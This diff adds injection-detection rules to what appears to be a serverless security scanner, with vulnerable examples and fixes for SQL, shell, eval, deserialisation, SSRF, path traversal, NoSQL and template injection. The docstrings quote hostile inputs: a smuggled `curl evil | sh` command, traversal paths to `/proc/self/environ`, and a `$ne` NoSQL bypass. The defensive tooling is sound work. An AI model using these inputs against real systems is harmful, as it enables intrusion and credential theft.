@@ -8,6 +8,7 @@ from __future__ import annotations
 
 from collections.abc import Iterator
 
+from faasguard.code.facts import code_facts, flow_message, flow_related
 from faasguard.findings import Severity
 from faasguard.model import Api, Application, Route
 from faasguard.registry import Hit, rule
@@ -155,3 +156,136 @@ def api_key_only(app: Application) -> Iterator[Hit]:
             function=route.function,
             key=f"{route.method} {route.path}",
         )
+
+
+# -- code: event data reaching dangerous sinks (faasguard.code facts) ------------------------------------
+
+
+def _code_flows(app: Application, kind: str, remediation: str) -> Iterator[Hit]:
+    for function, facts in code_facts(app):
+        for flow in facts.flows:
+            if flow.kind != kind:
+                continue
+            name = function or facts.function
+            yield Hit(
+                loc=flow.sink_loc,
+                message=flow_message(flow, name),
+                remediation=remediation,
+                resource=flow.sink,
+                function=function,
+                key=f"{flow.kind}:{flow.sink}:{flow.source}",
+                related=flow_related(flow),
+            )
+
+
+@rule("FG-INJ-010", category="injection", severity=Severity.CRITICAL, title="SQL built from event data")
+def sql_injection(app: Application) -> Iterator[Hit]:
+    """
+    A SQL statement passed to `cursor.execute`, `query` or `sqlalchemy.text` is built
+    from event data by concatenation or formatting, so a request can change the query.
+
+    Bad: `cursor.execute("SELECT * FROM orders WHERE customer = '" + body["customer"] + "'")`
+
+    Fix: pass the value as a parameter: `cursor.execute("… WHERE customer = %s", (customer,))`
+    (`pool.query("… WHERE id = $1", [id])` in Node.js).
+    """
+    yield from _code_flows(app, "sql", "Use a parameterised query: keep the SQL text constant and pass event values as "
+                           "parameters (cursor.execute(sql, (value,)) / pool.query(sql, [value]))")
+
+
+@rule("FG-INJ-011", category="injection", severity=Severity.CRITICAL, title="Shell command built from event data")
+def command_injection(app: Application) -> Iterator[Hit]:
+    """
+    Event data reaches a shell: `os.system`, `os.popen`, `subprocess.*(shell=True)`,
+    `child_process.exec/execSync`, or `spawn` with `shell: true`. A value such as
+    `x; curl evil | sh` runs arbitrary commands with the function's role.
+
+    Bad: `execSync("wkhtmltopdf /tmp/" + event.queryStringParameters.url)`
+
+    Fix: run the program without a shell and pass arguments as a list
+    (`subprocess.run(["tar", "czf", out, name])`, `execFileSync("wkhtmltopdf", [url])`),
+    after checking the value against an allow-list.
+    """
+    yield from _code_flows(app, "shell", "Call the program without a shell, with arguments as a list "
+                           "(subprocess.run([...]) / execFile(cmd, [args])), and validate the value against an allow-list")
+
+
+@rule("FG-INJ-012", category="injection", severity=Severity.CRITICAL, title="Event data evaluated as code")
+def code_injection(app: Application) -> Iterator[Hit]:
+    """
+    Event data reaches `eval`, `exec`, `compile`, `Function(...)` or `vm.runIn*`: the
+    caller can run any code inside the function.
+
+    Fix: never evaluate input. Parse data with `json.loads` / `JSON.parse`, or map the
+    input to a fixed set of operations.
+    """
+    yield from _code_flows(app, "code", "Do not evaluate event data; parse it as data (json.loads / JSON.parse) "
+                           "or dispatch to a fixed table of allowed operations")
+
+
+@rule("FG-INJ-013", category="injection", severity=Severity.HIGH, title="Unsafe deserialisation of event data")
+def unsafe_deserialization(app: Application) -> Iterator[Hit]:
+    """
+    Event data is deserialised with a format that can construct arbitrary objects:
+    `pickle.loads`, `yaml.load` without `SafeLoader`, `node-serialize.unserialize`.
+    A crafted payload runs code during deserialisation.
+
+    Fix: use `json`, or `yaml.safe_load`; never unpickle data from a request or a bucket.
+    """
+    yield from _code_flows(app, "deserialization", "Use a data-only format: json.loads, yaml.safe_load "
+                           "(or yaml.load(..., Loader=yaml.SafeLoader)); never pickle/unserialize input")
+
+
+@rule("FG-INJ-014", category="injection", severity=Severity.HIGH, title="Server-side request forgery: URL from event data")
+def ssrf(app: Application) -> Iterator[Hit]:
+    """
+    The function fetches a URL taken from the event (`requests.get`, `urlopen`, `fetch`,
+    `axios`, `http.get`). An attacker can make it call the instance metadata endpoint,
+    internal services in the VPC, or anything its network allows.
+
+    Fix: check the host against an allow-list before the request
+    (`if urlparse(url).hostname not in ALLOWED_HOSTS: return 400`).
+    """
+    yield from _code_flows(app, "ssrf", "Check the URL's scheme and host against an allow-list of the services the "
+                           "function may call before making the request")
+
+
+@rule("FG-INJ-015", category="injection", severity=Severity.HIGH, title="Path traversal: file path from event data")
+def path_traversal(app: Application) -> Iterator[Hit]:
+    """
+    A file path built from event data is opened (`open`, `fs.readFile`, `send_file`):
+    `../../var/task/config.json` or `/proc/self/environ` reads code and credentials.
+
+    Fix: reduce the value to a base name (`os.path.basename`, `path.basename`), or look
+    it up in an allow-list, and join it to a fixed directory.
+    """
+    yield from _code_flows(app, "path", "Reduce the value to a base name (os.path.basename / path.basename) or look it "
+                           "up in an allow-list, then join it to a fixed directory")
+
+
+@rule("FG-INJ-016", category="injection", severity=Severity.HIGH, title="NoSQL query built from event data")
+def nosql_injection(app: Application) -> Iterator[Hit]:
+    """
+    A MongoDB query takes an object parsed from the request (`{"$ne": null}` matches every
+    document), or a DynamoDB expression (`FilterExpression`, `UpdateExpression` …) is
+    built by string concatenation from event data.
+
+    Fix: build the query from typed, validated fields (`{"user": str(body["user"])}`) and
+    pass values as DynamoDB `ExpressionAttributeValues` placeholders (`:v`).
+    """
+    yield from _code_flows(app, "nosql", "Build queries from validated scalar fields and pass values through "
+                           "ExpressionAttributeValues placeholders (:value) instead of concatenating them")
+
+
+@rule("FG-INJ-017", category="injection", severity=Severity.HIGH, title="Template built from event data")
+def template_injection(app: Application) -> Iterator[Hit]:
+    """
+    Event data is used as template *source* (`jinja2.Template(body)`,
+    `render_template_string`, `ejs.render`), so `{{ ... }}` in a request runs template
+    code on the server.
+
+    Fix: keep templates constant and pass event data as render variables
+    (`Template(FIXED).render(name=body["name"])`).
+    """
+    yield from _code_flows(app, "template", "Keep the template text constant and pass event data only as render "
+                           "variables")
